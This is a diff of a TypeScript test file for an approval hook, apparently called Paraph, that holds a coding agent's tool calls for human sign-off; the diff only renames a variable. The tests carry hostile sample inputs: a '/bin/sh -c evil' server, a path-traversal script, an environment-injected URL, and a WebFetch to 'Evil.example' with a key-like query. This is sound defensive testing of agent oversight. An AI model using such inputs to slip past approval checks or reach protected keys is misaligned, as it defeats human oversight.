@@ -12,13 +12,13 @@ import { TestParaph } from "./support/servers/test-paraph.ts";
 const folder = await mkdtemp(join(tmpdir(), "paraph-hook-trust-"));
 const home = join(folder, "home");
 const project = join(folder, "project");
-const whole = await TestParaph.start({ adapters: { agent: codingAgent({}) } }, [
+const paraph = await TestParaph.start({ adapters: { agent: codingAgent({}) } }, [
   { tenant: "acme", id: "owner", kind: "person" },
   { tenant: "acme", id: "ana", kind: "person" },
   { tenant: "acme", id: "bot", kind: "agent", owner: "owner" },
 ]);
 afterAll(async () => {
-  await whole.stop();
+  await paraph.stop();
   await rm(folder, { recursive: true, force: true });
 });
 
@@ -46,12 +46,12 @@ function use(
     tool_use_id: `use-${uses}`,
     ...more,
   };
-  const environment = { HOME: home, PARAPH_URL: whole.url, PARAPH_KEY: whole.key("bot") };
+  const environment = { HOME: home, PARAPH_URL: paraph.url, PARAPH_KEY: paraph.key("bot") };
   return runHook([client, "--wait", "0", ...args], JSON.stringify(event), { folder: project, environment });
 }
 
 async function calls(capability: string) {
-  const { body } = await whole.request("ana", "GET", `/v1/calls?capability=${capability}&limit=100`);
+  const { body } = await paraph.request("ana", "GET", `/v1/calls?capability=${capability}&limit=100`);
   return body.calls;
 }
 
@@ -61,9 +61,9 @@ async function put(path: string, value: object | string) {
 }
 
 describe("[TRUST 31] a server counts as Paraph only if nothing else can answer", () => {
-  const door = { type: "http", url: `${whole.url}/mcp/files` };
+  const door = { type: "http", url: `${paraph.url}/mcp/files` };
   const main = fileURLToPath(new URL("../packages/cli/src/main.ts", import.meta.url));
-  const bridge = { command: process.execPath, args: [main, "mcp", "--url", whole.url] };
+  const bridge = { command: process.execPath, args: [main, "mcp", "--url", paraph.url] };
   const evil = { command: "/bin/sh", args: ["-c", "evil"] };
   const servers = (mcpServers: object) => ({ mcpServers });
   const users = join(home, ".claude.json");
@@ -100,14 +100,14 @@ describe("[TRUST 31] a server counts as Paraph only if nothing else can answer",
     ],
     [
       "another file below our folder's path",
-      { ...bridge, args: [`${dirname(main)}/../../../evil.js`, "mcp", "--url", whole.url] },
+      { ...bridge, args: [`${dirname(main)}/../../../evil.js`, "mcp", "--url", paraph.url] },
     ],
-    ["our program with another command", { ...bridge, args: [main, "dev", "mcp", "--url", whole.url] }],
+    ["our program with another command", { ...bridge, args: [main, "dev", "mcp", "--url", paraph.url] }],
     ["our program without a target", { ...bridge, args: [main, "mcp"] }],
     ["our program with two targets", { ...bridge, args: [...bridge.args, "--url", "http://127.0.0.1:9"] }],
     ["a helper that makes its headers", { ...door, headersHelper: "evil" }],
-    ["a page of Paraph's that is no MCP", { type: "http", url: `${whole.url}/approvals` }],
-    ["an address that the environment completes", { type: "http", url: `${whole.url}/mcp/\${EVIL}` }],
+    ["a page of Paraph's that is no MCP", { type: "http", url: `${paraph.url}/approvals` }],
+    ["an address that the environment completes", { type: "http", url: `${paraph.url}/mcp/\${EVIL}` }],
     ["a field that nobody knows", { ...door, transport: "evil" }],
   ])("is asked about: %s", async (_, definition) => {
     await put(users, servers({ honest: door }));
@@ -120,7 +120,7 @@ describe("[TRUST 31] a server counts as Paraph only if nothing else can answer",
     await put(projects, servers({ github__x: evil }));
     expect(await isAsked("mcp__github__x__run")).toBe(true);
     expect((await calls("agent.mcp"))[0]).toMatchObject({ state: "asking" });
-    const { input } = (await whole.request("ana", "GET", `/v1/calls/${(await calls("agent.mcp"))[0].call}`))
+    const { input } = (await paraph.request("ana", "GET", `/v1/calls/${(await calls("agent.mcp"))[0].call}`))
       .body;
     expect(input).toMatchObject({ server: "github__x", tool: "run" });
     // The server comes from a plugin or a command line, and from no file that the hook can read.
@@ -225,7 +225,7 @@ describe("[TRUST 27] [TRUST 31] no tool of an agent's reaches Paraph's own keys"
       expect(await use(tool, input)).toMatchObject({ code: 0, said: undefined });
     const [search, one] = await calls("agent.read");
     const input = async ({ call }: { call: string }) =>
-      (await whole.request("ana", "GET", `/v1/calls/${call}`)).body.input;
+      (await paraph.request("ana", "GET", `/v1/calls/${call}`)).body.input;
     expect([(await input(one)).path, (await input(search)).path]).toEqual([
       join(project, "a.paraph.txt"),
       project,
@@ -236,7 +236,7 @@ describe("[TRUST 27] [TRUST 31] no tool of an agent's reaches Paraph's own keys"
     const fetched = await use("WebFetch", { url: "HTTP://Evil.example/?k=x", prompt: "look" });
     expect(readHookReason(fetched)).toContain("this waits in Paraph");
     const [asked] = await calls("agent.web_fetch");
-    const { input } = (await whole.request("ana", "GET", `/v1/calls/${asked.call}`)).body;
+    const { input } = (await paraph.request("ana", "GET", `/v1/calls/${asked.call}`)).body;
     expect(input).toMatchObject({ url: "http://evil.example/?k=x", host: "evil.example" });
     const before = (await calls("agent.unknown")).length;
     const two = { prompt: "https://a.example and https://b.example" };
@@ -250,7 +250,7 @@ describe("[TRUST 27] [TRUST 31] no tool of an agent's reaches Paraph's own keys"
 });
 
 it("[TRUST 1] a note cannot pass off one call as another: what is taken is compared with what is about to happen", async () => {
-  const { body: harmless } = await whole.request("bot", "POST", "/v1/calls", {
+  const { body: harmless } = await paraph.request("bot", "POST", "/v1/calls", {
     capability: "agent.read",
     input: { client: "claude-code", cwd: project, path: project, tool: "LS", input: {} },
   });
@@ -263,6 +263,6 @@ it("[TRUST 1] a note cannot pass off one call as another: what is taken is compa
   const answer = await use("Bash", { command });
   expect(readHookDecision(answer)).toBe("deny");
   expect(readHookReason(answer)).not.toContain(harmless.call);
-  const { body } = await whole.request("ana", "GET", `/v1/calls/${harmless.call}`);
+  const { body } = await paraph.request("ana", "GET", `/v1/calls/${harmless.call}`);
   expect(body.state).toBe("offered");
 });
